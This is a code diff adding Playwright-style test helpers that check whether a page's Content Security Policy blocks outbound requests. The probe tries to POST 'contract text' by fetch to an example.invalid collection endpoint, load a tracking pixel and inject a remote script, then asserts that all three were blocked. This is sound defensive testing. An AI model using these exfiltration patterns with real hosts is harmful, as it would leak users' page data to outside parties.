@@ -152,3 +152,58 @@ export function paneBundleKb(dir: string): { kb: number; files: string[] } {
   return { kb: Math.round((bytes / 1024) * 10) / 10, files };
 }
 
+
+export interface CspProbe {
+  violations: Array<{ blockedURI: string; directive: string }>;
+  fetchError: string;
+}
+
+/** From inside the page, tries to send data out by fetch, image and script; returns what the CSP reported. */
+export async function probeCsp(page: Page): Promise<CspProbe> {
+  return page.evaluate(async () => {
+    const violations: Array<{ blockedURI: string; directive: string }> = [];
+    const listener = (e: SecurityPolicyViolationEvent) => violations.push({ blockedURI: e.blockedURI, directive: e.effectiveDirective });
+    document.addEventListener("securitypolicyviolation", listener);
+    let fetchError = "";
+    try {
+      await fetch("http://example.invalid/collect", { method: "POST", body: "contract text" });
+    } catch (e) {
+      fetchError = String(e);
+    }
+    const img = new Image();
+    const imgDone = new Promise((resolve) => {
+      img.onerror = resolve;
+      img.onload = resolve;
+    });
+    img.src = "https://example.invalid/pixel.png";
+    await imgDone;
+    const script = document.createElement("script");
+    script.src = "https://example.invalid/tracker.js";
+    const scriptDone = new Promise((resolve) => {
+      script.onerror = resolve;
+      script.onload = resolve;
+    });
+    document.head.appendChild(script);
+    await scriptDone;
+    await new Promise((resolve) => setTimeout(resolve, 200));
+    document.removeEventListener("securitypolicyviolation", listener);
+    return { violations, fetchError };
+  });
+}
+
+/** Asserts (with jest's expect) that the probe was blocked by the CSP and nothing reached the network. */
+export async function expectCspBlocked(rec: Recorded): Promise<void> {
+  const before = { attempted: rec.attempted.length, blocked: rec.cspBlocked.length };
+  const result = await probeCsp(rec.page);
+  await rec.page.waitForTimeout(200);
+  expect(result.fetchError).toMatch(/Failed to fetch|TypeError/);
+  const byDirective = Object.fromEntries(result.violations.map((v) => [v.directive, v.blockedURI]));
+  expect(byDirective["connect-src"]).toMatch(/^http:\/\/example\.invalid/);
+  expect(byDirective["img-src"]).toMatch(/^https:\/\/example\.invalid/);
+  expect(byDirective["script-src-elem"] ?? byDirective["script-src"]).toMatch(/^https:\/\/example\.invalid/);
+  // Chromium refused them for the CSP: none reached the network (the test's abort net saw nothing).
+  expect(rec.outside).toEqual([]);
+  const probes = ["https://example.invalid/pixel.png", "https://example.invalid/tracker.js"];
+  expect([...rec.attempted.slice(before.attempted)].sort()).toEqual(probes);
+  expect([...rec.cspBlocked.slice(before.blocked)].sort()).toEqual(probes);
+}
